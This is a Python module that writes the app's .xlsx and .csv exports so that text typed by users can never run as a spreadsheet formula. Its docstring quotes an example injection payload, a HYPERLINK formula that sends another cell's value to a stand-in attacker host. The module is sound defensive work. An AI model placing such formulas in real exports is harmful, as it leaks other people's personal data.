"""Every .xlsx and .csv the app writes: what people typed stays text, never a formula a spreadsheet would run.

A name like `=HYPERLINK("http://evil.example/"&E2,"详情")` typed at a door would otherwise reach a grid head's
export as a live formula beside other people's addresses. In a workbook every string is written as a string
cell, and one a spreadsheet would read as a formula (starting with = + - @, a tab or a carriage return) also
gets the quote prefix Excel gives a typed `'`, so editing the cell keeps it text. A CSV has no cell types: such
a value is written after a `'`, which read_csv_cell() takes off again. Numbers the app computes stay numbers.
"""
import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def xlsx(sheets: dict[str, Iterable[Iterable]]) -> bytes:
    """A workbook of the named sheets, each given as its rows; written row by row (write-only mode)."""
    book = Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append([_cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _cell(sheet: WriteOnlyWorksheet, value):
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"   # openpyxl makes any "=…" a formula cell
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """The rows as CSV in UTF-8 with a byte order mark (Excel in China then reads it as UTF-8)."""
    out = io.StringIO()
    csv.writer(out).writerows([_csv_cell(value) for value in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


def _csv_cell(value):
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def read_csv_cell(text: str) -> str:
    """A CSV cell as it was typed: the `'` csv_bytes() put before a formula-like value taken off."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text
